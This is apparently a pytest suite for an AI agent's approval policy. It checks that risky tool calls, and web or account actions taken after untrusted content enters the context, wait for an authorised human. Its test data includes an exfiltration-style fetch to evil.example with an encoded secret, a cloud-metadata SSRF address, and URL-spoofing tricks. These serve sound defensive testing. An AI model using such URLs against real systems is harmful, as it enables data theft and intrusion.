"""The approval policy, as plain functions: risk by effect, untrusted content, who decides."""

from __future__ import annotations

import pytest

from capabilities.approvals.contracts import Actor
from capabilities.task.workflow import policy
from capabilities.tools.activities.registry import TOOLS
from lucy.contracts.risk import Risk


def assess(
    tool: str, args: dict, *, untrusted: bool = False, known: tuple[str, ...] = (), **kw
) -> policy.Assessment:
    return policy.assess(tool, args, untrusted_seen=untrusted, known_hosts=known, **kw)


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("exec", {"command": "ls"}),
        ("write_file", {"path": "/tmp/a", "content": "x"}),
        ("edit_file", {"path": "/tmp/a", "old_text": "a", "new_text": "b"}),
        ("send_email", {"to": "a@b.c", "subject": "s", "text": "t"}),
        ("composio_execute", {"action": "GMAIL_SEND_EMAIL"}),
        ("composio_execute", {"action": "GITHUB_DELETE_A_REPOSITORY"}),
        ("composio_execute", {"action": "github_get_a_repository_and_delete_it"}),  # not on the list
    ],
)
def test_steps_that_change_things_or_reach_people_always_wait(tool: str, args: dict):
    verdict = assess(tool, args)
    assert verdict.needs_approval and verdict.risk == "high" and verdict.because


def test_read_only_composio_actions_and_reads_run_in_a_clean_context():
    for tool, args in [
        ("composio_execute", {"action": "GITHUB_GET_A_REPOSITORY"}),
        ("composio_execute", {"action": " github_list_repository_issues "}),
        ("read_file", {"path": "/etc/hosts"}),
        ("slack_history", {"query": "deploy"}),
        ("web_fetch", {"url": "https://anything.example"}),
        ("browser", {"action": "open", "url": "https://anything.example"}),
        ("browser", {"action": "click", "ref": "e1"}),
        ("create_file", {"format": "csv", "filename": "a"}),
    ]:
        assert not assess(tool, args).needs_approval, (tool, args)
    assert policy.base_risk("browser", {"action": "type"}) == "medium"


def test_once_untrusted_content_is_in_the_context_new_sites_and_page_actions_wait():
    known = ("docs.example.com",)
    for tool, args in [
        ("web_fetch", {"url": "https://evil.example/?d=c2VjcmV0"}),
        ("browser", {"action": "open", "url": "https://evil.example"}),
        ("browser", {"action": "navigate", "url": "http://169.254.169.254/"}),
        ("browser", {"action": "click", "ref": "e1"}),
        ("browser", {"action": "type", "ref": "e2", "text": "hello"}),
        ("web_fetch", {"url": "https://evil.example\\@docs.example.com/"}),  # parsed differently by browsers
        ("web_fetch", {"url": "https://user@docs.example.com.evil.example/"}),
    ]:
        verdict = assess(tool, args, untrusted=True, known=known)
        assert verdict.needs_approval, (tool, args)
        assert verdict.risk in ("medium", "high") and "outside" in verdict.because
    for tool, args in [
        ("web_fetch", {"url": "https://docs.example.com/guide"}),
        ("web_fetch", {"url": "https://api.docs.example.com/v2"}),  # a subdomain of a named site
        ("browser", {"action": "snapshot"}),
        ("read_file", {"path": "/etc/hosts"}),
    ]:
        assert not assess(tool, args, untrusted=True, known=known).needs_approval, (tool, args)
    # A look-alike is not a subdomain.
    assert assess(
        "web_fetch", {"url": "https://evildocs.example.com"}, untrusted=True, known=known
    ).needs_approval


def test_once_untrusted_content_is_in_the_context_every_action_on_an_account_waits_for_its_owner():
    for action in ("GMAIL_FETCH_EMAILS", "GITHUB_GET_A_REPOSITORY"):
        verdict = assess("composio_execute", {"action": action}, untrusted=True, account_owner_gate=True)
        assert verdict.needs_approval and verdict.owner_only and verdict.risk == "low", action
        assert "own account" in verdict.because
        assert not assess("composio_execute", {"action": action}, account_owner_gate=True).needs_approval
        # a history recorded before the rule replays as it ran
        assert not assess("composio_execute", {"action": action}, untrusted=True).needs_approval
    writes = assess(
        "composio_execute", {"action": "GMAIL_SEND_EMAIL"}, untrusted=True, account_owner_gate=True
    )
    # A write on the account too: its owner's consent is the one that counts, not another admin's.
    assert writes.risk == "high" and writes.needs_approval and writes.owner_only
    trusted_write = assess("composio_execute", {"action": "GMAIL_SEND_EMAIL"}, account_owner_gate=True)
    assert trusted_write.needs_approval and not trusted_write.owner_only  # no outside content: as before
    assert not assess("read_file", {"path": "/a"}, untrusted=True, account_owner_gate=True).needs_approval


@pytest.mark.parametrize("risk", ["low", "high"])
def test_only_the_owner_approves_a_step_on_their_own_account(risk: str):
    def owner_only(actor: Actor, decision: str = "approved") -> str | None:
        return policy.refusal(
            actor,
            decision=decision,
            requester="UREQ",
            approvers=["UBOSS"],
            risk=risk,
            self_approval_allowed=False,
            owner_only=True,
        )

    assert owner_only(Actor("UREQ")) is None  # a write on their own account too: their consent
    for other in (Actor("UBOSS"), Actor("UADMIN", role="admin"), Actor("UOWN", role="owner")):
        assert "only they can approve" in (owner_only(other) or ""), other
        assert owner_only(other, decision="rejected") is None  # anyone who may decide can say no
    assert "could not be verified" in (owner_only(Actor("UREQ", problem="bad signature")) or "")


def test_workspace_and_channel_policy_only_add_approvals():
    assert assess("web_fetch", {"url": "https://a.example"}, channel_requires_approval=True).needs_approval
    assert assess("read_file", {"path": "/a"}, approval_required_tools=["read_file"]).needs_approval
    assert assess("exec", {"command": "ls"}, approval_required_tools=[]).needs_approval


def test_hosts_named_by_the_requester():
    text = "compare <https://docs.example.com/a|the docs> with github.com/org/repo and HTTP://Status.Example.org."
    assert policy.hosts_named_in(text) == {"docs.example.com", "github.com", "status.example.org"}
    assert policy.hosts_named_in("write to bob@mail.example.com") == set()  # an address is not a site
    assert policy.host_of("https://a.example:8443/x") == "a.example"
    assert policy.host_of("https://evil.example\\@good.example/") == ""


def test_every_catalog_tool_has_a_risk():
    for name in TOOLS:
        assert policy.base_risk(name, {}) in list(Risk)


# --------------------------------------------------------------------------- who decides

OK = Actor(slack_user_id="UBOSS")


def refusal(
    actor: Actor, *, decision: str = "approved", risk: str = "high", self_ok: bool = False
) -> str | None:
    return policy.refusal(
        actor,
        decision=decision,
        requester="UREQ",
        approvers=["UBOSS"],
        risk=risk,
        self_approval_allowed=self_ok,
    )


def test_who_may_decide():
    assert refusal(OK) is None
    assert refusal(Actor("UADMIN", role="admin")) is None
    assert refusal(Actor("UOWN", role="owner")) is None
    assert "You can't decide" in (refusal(Actor("UMEMBER")) or "")
    # The requester: may reject anything of theirs, approve low and medium, not high (unless allowed).
    assert refusal(Actor("UREQ"), decision="rejected") is None
    assert refusal(Actor("UREQ"), risk="medium") is None
    assert "someone else must approve" in (refusal(Actor("UREQ")) or "")
    assert refusal(Actor("UREQ"), self_ok=True) is None
    # Never: a guest, someone from another organisation, a deactivated account, an unverified click.
    assert "Guests" in (refusal(Actor("UBOSS", role="guest")) or "")
    assert "active members" in (refusal(Actor("UADMIN", role="admin", deleted=True)) or "")
    assert "could not be verified" in (refusal(Actor("UADMIN", role="admin", problem="bad signature")) or "")
    assert not Actor("UADMIN", role="admin", problem="x").is_admin


def test_who_may_cancel():
    assert policy.cancel_refusal(Actor("UREQ"), requester="UREQ") is None
    assert policy.cancel_refusal(Actor("UADMIN", role="admin"), requester="UREQ") is None
    assert "Only the person who asked" in (policy.cancel_refusal(Actor("UMEMBER"), requester="UREQ") or "")
    assert "could not be verified" in (
        policy.cancel_refusal(Actor("UREQ", problem="old"), requester="UREQ") or ""
    )
